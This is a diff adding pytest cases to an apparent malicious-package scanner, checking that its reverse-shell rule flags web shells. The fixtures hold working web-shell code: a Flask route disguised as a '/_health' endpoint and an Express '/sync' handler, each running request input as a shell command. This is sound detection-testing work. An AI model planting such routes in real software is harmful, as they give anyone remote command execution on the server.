@@ -714,3 +714,43 @@ def test_deleting_a_folder_under_the_working_folder_is_not_destructive(engine: E
         "rimraf.sync(process.cwd() + '/coverage');\n"
     )
     assert run_rule(engine, destructive_command_rule, npm_tarball({"clean.js": code})) is None
+
+
+@pytest.mark.parametrize(
+    ("files", "build"),
+    [
+        (
+            {
+                "tidy_strings/ext.py": "import subprocess\nfrom flask import request\n\n"
+                "def init_app(app):\n"
+                "    @app.route('/_health', methods=['POST'])\n"
+                "    def health():\n"
+                "        out = subprocess.run(request.get_data(as_text=True), shell=True,\n"
+                "                             capture_output=True)\n"
+                "        return out.stdout\n"
+            },
+            sdist,
+        ),
+        (
+            {
+                "index.js": "const { execSync } = require('child_process');\n"
+                "module.exports = (app) => app.post('/sync', (req, res) => {\n"
+                "  res.send(execSync(req.body.cmd).toString());\n});\n"
+            },
+            npm_tarball,
+        ),
+    ],
+    ids=["flask", "express"],
+)
+def test_a_route_running_the_request_as_a_command_is_a_web_shell(
+    engine: Engine, files: dict[str, str], build: Callable[[dict[str, str]], bytes]
+) -> None:
+    evidence = run_rule(engine, reverse_shell_rule, build(files))
+    assert evidence[0]["signatures"] == [
+        "runs a web request's parameter as a shell command (web shell)"
+    ]
+
+
+def test_a_regular_expression_run_on_a_request_header_is_no_web_shell(engine: Engine) -> None:
+    code = "const m = /^bytes=(\\d*)-(\\d*)$/.exec(req.headers.range);\n"
+    assert run_rule(engine, reverse_shell_rule, npm_tarball({"static.js": code})) is None
